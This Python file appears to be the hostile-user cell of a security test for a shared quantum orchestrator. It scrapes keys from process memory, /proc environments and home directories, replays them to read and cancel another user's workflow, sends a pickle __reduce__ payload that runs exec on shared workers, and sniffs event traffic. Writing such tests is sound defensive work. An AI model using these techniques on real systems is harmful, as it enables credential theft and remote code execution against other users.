# ruff: noqa: E402
"""The cell a hostile second user of a shared orchestrator runs (tests/security/test_adversary.py).

It is submitted as the source of one ``%%qonductor`` cell, so it runs wherever that user's steps
run, with whatever those processes hold. It knows what its user knows (``ctx``: their own
connection file, the victim's user name and workflow ids) and nothing else. It speaks the wire
protocol by hand (HMAC-SHA256 over a msgpack envelope: the same bytes every version of the
client sends) so that it works against any version of the orchestrator, and reports each
attack as ``{"won": bool, "detail": str}`` in ``report``; the test asserts on it.
"""

import gc
import hashlib
import hmac
import io
import os
import re
import secrets
import sys
import threading
import time

import msgpack
import zmq

HEX_SECRET = re.compile(rb"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])")
# Folders too big to search that hold no orchestrator's files.
SKIPPED = {"site-packages", "node_modules", ".git", "__pycache__", ".pyenv", ".rustup", ".cargo"}
SKIPPED |= {".cache", ".npm", "proc"}
CAPABILITY = re.compile(rb"(?<![0-9a-f])([0-9a-f]{16})\.([0-9a-f]{64})(?![0-9a-f])")


def attack(ctx):
    found = Secrets(ctx)
    listener = EventListener(ctx)
    listener.start()
    report = {}
    report["scan"] = found.scan_everything()
    report["own_key_found"] = {
        "won": ctx["key"].encode() in found.keys,
        "detail": "the scanner finds this user's own key (it is in this process)",
    }
    wire = Wire(ctx)
    report["use_found_keys"] = wire.try_found_keys(found)
    report["own_key_on_victim"] = wire.own_key_on_victim()
    report["lie_about_width"] = wire.lie_about_width()
    report["pickle_into_qpu_workers"] = wire.pickle_into_qpu_workers()
    listener.stop()
    report["read_victim_events"] = listener.verdict()
    report["files_with_victim_results"] = {
        "won": bool(found.marker_files),
        "detail": ", ".join(found.marker_files[:5]) or "no readable file holds them",
    }
    wire.close()
    return report


class Secrets:
    """Everything that looks like a key or a capability, wherever this process can look."""

    def __init__(self, ctx):
        self.ctx = ctx
        self.keys = set()
        self.capabilities = set()
        self.marker_files = []
        self.where = {}
        self.read = {"memory_mb": 0, "files": 0, "processes": 0}

    def _take(self, blob, where):
        if isinstance(blob, str):
            blob = blob.encode(errors="ignore")
        if not isinstance(blob, (bytes, bytearray)) or len(blob) < 64:
            return
        blob = bytes(blob)
        kind = "files" if where.startswith("file:") else where
        for match in HEX_SECRET.findall(blob):
            if match not in self.keys:
                self.keys.add(match)
                self.where[kind] = self.where.get(kind, 0) + 1
        for cap_id, secret in CAPABILITY.findall(blob):
            self.capabilities.add((cap_id, secret))
        if self.ctx["marker"].encode() in blob and where.startswith("file:"):
            if where[5:] not in self.marker_files:
                self.marker_files.append(where[5:])

    def scan_everything(self):
        t0 = time.time()
        self.scan_python_objects()
        for key, value in os.environ.items():
            self._take(f"{key}={value}", "environment")
        self.scan_processes()
        self.scan_files()
        return {
            "won": False,
            "detail": f"{len(self.keys)} key-like strings, {len(self.capabilities)} capability-"
            f"like, {len(self.marker_files)} files with the victim's results, from "
            f"{sorted(self.where)}; read {self.read} in {time.time() - t0:.1f} s",
        }

    def scan_python_objects(self):
        """Module globals and every object the garbage collector tracks, a few levels deep."""
        seen = set()

        def visit(value, where, depth):
            if id(value) in seen or depth > 3:
                return
            seen.add(id(value))
            if isinstance(value, (str, bytes, bytearray)):
                self._take(value, where)
                return
            if isinstance(value, dict):
                items = list(value.values()) + list(value.keys())
            elif isinstance(value, (list, tuple, set, frozenset)):
                items = list(value)
            else:
                items = list(getattr(value, "__dict__", {}).values())
                for slot in getattr(type(value), "__slots__", ()) or ():
                    items.append(getattr(value, slot, None))
            for item in items[:10000]:
                visit(item, where, depth + 1)

        for module in list(sys.modules.values()):
            visit(getattr(module, "__dict__", {}), "module globals", 0)
        for obj in gc.get_objects():
            visit(obj, "gc objects", 1)

    def scan_processes(self):
        """This process's memory, and every process's environment, command line and memory."""
        self.memory_budget = 384 << 20
        others = [p for p in os.listdir("/proc") if p.isdigit() and p != str(os.getpid())]
        for pid in [str(os.getppid()), "self"] + others:
            for part in ("environ", "cmdline"):
                try:
                    with open(f"/proc/{pid}/{part}", "rb") as fh:
                        self._take(fh.read(), f"/proc/{'self' if pid == 'self' else 'pid'}/{part}")
                except OSError:
                    pass
            self._read_memory(pid)

    def _read_memory(self, pid):
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
        except OSError:
            return
        self.read["processes"] += 1
        where = "/proc/self/mem" if pid == "self" else "/proc/pid/mem"
        with mem:
            for line in maps:
                fields = line.split()
                if len(fields) < 2 or not fields[1].startswith("rw"):
                    continue
                start, end = (int(x, 16) for x in fields[0].split("-"))
                if end - start > self.memory_budget:
                    continue
                try:
                    mem.seek(start)
                    chunk = mem.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                self.memory_budget -= len(chunk)
                self.read["memory_mb"] += len(chunk) >> 20
                self._take(chunk, where)
                if self.memory_budget <= 0:
                    return

    def scan_files(self):
        """Files under every folder the orchestrator's home could be in."""
        roots = []
        try:  # the orchestrator's working directory is its home
            roots.append(os.readlink(f"/proc/{os.getppid()}/cwd"))
        except OSError:
            pass
        roots += self.ctx.get("guess_dirs", [])
        roots += [os.path.expanduser("~"), os.getcwd(), "/tmp", "/root", "/home", "/var/tmp"]
        budget = {"files": 2000}
        for root in dict.fromkeys(roots):
            self._walk(root, 0, budget)

    def _walk(self, folder, depth, budget):
        if depth > 7 or budget["files"] <= 0:
            return
        try:
            entries = list(os.scandir(folder))
        except OSError:
            return
        for entry in entries:
            if entry.name in SKIPPED:
                continue
            try:
                if entry.is_dir(follow_symlinks=False):
                    self._walk(entry.path, depth + 1, budget)
                elif entry.is_file(follow_symlinks=False) and entry.stat().st_size < 8 << 20:
                    budget["files"] -= 1
                    self.read["files"] += 1
                    with open(entry.path, "rb") as fh:
                        self._take(fh.read(), "file:" + entry.path)
            except OSError:
                continue


class Wire:
    """Requests signed by hand, the way the client signs them."""

    def __init__(self, ctx):
        self.ctx = ctx
        self.sock = zmq.Context.instance().socket(zmq.DEALER)
        self.sock.setsockopt(zmq.LINGER, 0)
        if ctx.get("curve_server_key"):
            self.sock.curve_serverkey = ctx["curve_server_key"].encode()
            self.sock.curve_publickey = ctx["curve_public_key"].encode()
            self.sock.curve_secretkey = ctx["curve_secret_key"].encode()
        self.sock.connect(ctx["router"])

    def close(self):
        self.sock.close()

    def frames(self, op, body, key, name):
        rid = secrets.token_hex(8)
        payload = msgpack.packb(
            {"op": op, "id": rid, "ts": time.time(), "nonce": secrets.token_hex(8), "body": body},
            use_bin_type=True,
        )
        digest = hmac.new(key, payload, hashlib.sha256).hexdigest().encode()
        signature = f"{name}:".encode() + digest if name else digest
        return rid, [signature, payload]

    def ask_many(self, requests, wait_s=4.0):
        """Send every (op, body, key, name) at once; the replies by request, as dicts."""
        pending = {}
        for request in requests:
            rid, frames = self.frames(*request)
            pending[rid] = request
            self.sock.send_multipart(frames)
        answers = {}
        deadline = time.time() + wait_s
        while pending.keys() - answers.keys() and time.time() < deadline:
            if not self.sock.poll(100):
                continue
            frames = self.sock.recv_multipart()
            try:
                env = msgpack.unpackb(frames[-1], raw=False)
            except Exception:
                continue
            if env.get("id") in pending:
                answers[env["id"]] = (pending[env["id"]], env)
        return list(answers.values())

    def ask(self, op, body, wait_s=60.0):
        """One request with this user's own key; the reply envelope (or None)."""
        answers = self.ask_many([(op, body, self.ctx["key"].encode(), self.ctx["user"])], wait_s)
        return answers[0][1] if answers else None

    def try_found_keys(self, found):
        """Sign as the orchestrator's owner and as the victim with every key found, and as every
        capability found: a reply that is not an error means the key worked."""
        victim = self.ctx["victim_running"]
        requests = []
        for key in sorted(found.keys - {self.ctx["key"].encode()}):
            for name in ("", self.ctx["victim_user"]):
                requests.append(("status", {"workflow_id": victim}, key, name))
        for cap_id, secret in sorted(found.capabilities):
            requests.append(("status", {"workflow_id": victim}, secret, "~" + cap_id.decode()))
        won = []
        for i in range(0, len(requests), 2000):
            for (_, _, _, name), env in self.ask_many(requests[i : i + 2000]):
                if env.get("op") != "error":
                    won.append(f"signed as {name or 'the owner'!r}: {env.get('op')}")
        if won:  # a key that works reads and cancels the victim's workflow
            key, name = next(
                (k, n) for (_, _, k, n), e in self.ask_many(requests) if e.get("op") != "error"
            )
            answer = self.ask_many([("cancel", {"workflow_id": victim}, key, name)])
            won.append(f"cancel: {answer[0][1].get('op') if answer else 'no reply'}")
        return {
            "won": bool(won),
            "detail": "; ".join(won[:4]) or f"none of {len(requests)} signatures was accepted",
        }

    def own_key_on_victim(self):
        """This user's own key on the victim's workflows: status, results, cancel, plans."""
        running, done = self.ctx["victim_running"], self.ctx["victim_done"]
        tries = [
            ("status", {"workflow_id": running}),
            ("results", {"workflow_id": done, "wait_s": 0.0}),
            ("choose_plan", {"workflow_id": running, "step_id": 0, "plan": 0}),
            ("cancel", {"workflow_id": running}),
        ]
        won = []
        for op, body in tries:
            env = self.ask(op, body, wait_s=10.0)
            if env is not None and env.get("op") != "error":
                won.append(op)
        listed = self.ask("list_workflows", {"limit": 1000}, wait_s=10.0) or {}
        text = repr(listed.get("body"))
        if running in text or done in text:
            won.append("list_workflows")
        return {"won": bool(won), "detail": ", ".join(won) or "every request was refused"}

    def _own_running_workflow(self):
        env = self.ask("list_workflows", {"limit": 1000}, wait_s=10.0) or {}
        rows = (env.get("body") or {}).get("data", {}).get("workflows", [])
        running = [r["id"] for r in rows if r.get("state") in ("running", "pending")]
        return running[0] if running else ""

    def _sample(self, circuits_blob, num_qubits):
        body = {
            "workflow_id": self._own_running_workflow(),
            "step_id": 0,
            "circuits": circuits_blob,
            "shots": 5,
            "num_qubits": num_qubits,
            "kind": "sample",
            "fingerprint": "",
        }
        return self.ask("sample", body, wait_s=30.0)

    def lie_about_width(self):
        """A circuit wider than the orchestrator's limit, declared 1 qubit wide."""
        from qiskit import QuantumCircuit, qpy

        wide = QuantumCircuit(self.ctx["too_many_qubits"])
        wide.h(0)
        wide.measure_all()
        import cloudpickle

        qpy_blob = io.BytesIO()
        qpy.dump([wide], qpy_blob)
        answers = []
        for blob in (qpy_blob.getvalue(), cloudpickle.dumps([wide])):
            env = self._sample(blob, 1)
            answers.append("no reply" if env is None else env.get("op"))
            if env is not None and env.get("op") == "sample_result":
                return {"won": True, "detail": f"ran {wide.num_qubits} qubits declared as 1"}
        return {"won": False, "detail": "refused: " + ", ".join(answers)}

    def pickle_into_qpu_workers(self):
        """Circuits as a pickle that runs code where it is loaded (the shared QPU workers)."""
        import cloudpickle

        flag = self.ctx["pwn_path"]

        class Payload:
            def __reduce__(self):
                return (exec, (f"open({flag!r}, 'w').write(str(__import__('os').getpid()))",))

        env = self._sample(cloudpickle.dumps(Payload()), 1)
        deadline = time.time() + 5
        while not os.path.exists(flag) and time.time() < deadline:
            time.sleep(0.1)
        return {
            "won": os.path.exists(flag),
            "detail": f"reply: {None if env is None else env.get('op')}",
        }


class EventListener(threading.Thread):
    """A raw subscriber to every topic of the event socket."""

    def __init__(self, ctx):
        super().__init__(daemon=True)
        self.ctx = ctx
        self.frames = 0
        self.readable = []
        self._stop_event = threading.Event()

    def run(self):
        sock = zmq.Context.instance().socket(zmq.SUB)
        sock.setsockopt(zmq.LINGER, 0)
        if self.ctx.get("curve_server_key"):
            sock.curve_serverkey = self.ctx["curve_server_key"].encode()
            sock.curve_publickey = self.ctx["curve_public_key"].encode()
            sock.curve_secretkey = self.ctx["curve_secret_key"].encode()
        sock.setsockopt(zmq.SUBSCRIBE, b"")
        sock.connect(self.ctx["pub"])
        victim = self.ctx["victim_running"].encode()
        try:
            while not self._stop_event.is_set():
                if not sock.poll(100):
                    continue
                parts = sock.recv_multipart()
                self.frames += 1
                if any(victim in part for part in parts):
                    self.readable.append(b" ".join(parts)[:200])
        finally:
            sock.close()

    def stop(self):
        time.sleep(self.ctx.get("listen_tail_s", 3.0))
        self._stop_event.set()
        self.join(2.0)

    def verdict(self):
        return {
            "won": bool(self.readable),
            "frames": self.frames,
            "detail": f"{len(self.readable)} of {self.frames} event frames named the victim's "
            f"workflow in the clear",
        }


report = attack(ctx)  # noqa: F821 (ctx: the cell's input, bound by the orchestrator)
